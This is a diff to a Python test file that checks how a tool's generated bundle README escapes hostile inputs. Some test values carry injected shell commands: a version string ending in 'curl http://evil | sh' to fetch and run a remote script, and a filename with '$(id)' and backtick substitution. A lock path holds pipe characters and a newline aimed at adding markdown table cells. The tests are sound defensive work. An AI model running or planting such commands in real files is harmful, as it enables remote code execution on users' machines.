@@ -636,11 +636,34 @@ def test_the_digest_code_span_cannot_be_closed() -> None:
 def test_the_bundle_readme_quotes_shell_lines_and_markdown() -> None:
     snap = changed(lock(), "python", version="3.11; curl http://evil | sh #.7")
     snap = dataclasses.replace(snap, envsnap=dataclasses.replace(snap.envsnap, generator="x\n# Owned"))
-    text = _templates.render("bundle/README.md.j2", lock=snap, packages=list(snap.python.packages), conda_archives=[])
+    from envsnap.artifacts.bundle import readme_origin
+
+    packages = list(snap.python.packages)
+    origins = {p.name: readme_origin(p) for p in packages}
+    text = _templates.render("bundle/README.md.j2", lock=snap, packages=packages, origins=origins, conda_archives=[])
     assert "    'python3.11; curl http://evil | sh #' -m venv ../envsnap-env" in text
     assert not any(line.startswith("# Owned") for line in text.splitlines())
-    conda = _templates.render("bundle/README.md.j2", lock=snap, packages=[], conda_archives=['a"$(id)`x`.conda'])
+    conda = _templates.render(
+        "bundle/README.md.j2", lock=snap, packages=[], origins={}, conda_archives=['a"$(id)`x`.conda']
+    )
     assert '"file://$PWD/conda/a\\"\\$(id)\\`x\\`.conda"' in conda
+
+
+def test_a_local_origin_in_the_bundle_readme_adds_no_cell_or_line() -> None:
+    """The README's origin column names a local place by its path in a code span: a ``|`` in a lock's path (which
+    GitHub reads as a cell's end even inside a code span) or a newline adds no cell or row."""
+    from envsnap.artifacts.bundle import readme_origin
+    from envsnap.model import Artifact, PythonPackage
+
+    art = Artifact(filename="x-1.0-py3-none-any.whl", url="", sha256="0" * 64, index="file:///w|x/y\n| a | b |")
+    pkg = PythonPackage(name="x", version="1.0", artifact=art)
+    text = _templates.render(
+        "bundle/README.md.j2", lock=lock(), packages=[pkg], origins={"x": readme_origin(pkg)}, conda_archives=[]
+    )
+    (row,) = [line for line in text.splitlines() if line.startswith("| x |")]
+    assert row.endswith(" | `/w\\|x/y\\| a \\| b \\|` |"), row  # the newline is gone (urlsplit drops it)
+    assert len(re.split(r"(?<!\\)\|", row)) == 6, row  # 4 cells
+    assert not any(line.startswith("| a |") for line in text.splitlines())
 
 
 # ------------------------------------------------------------------------------------------------- LaTeX
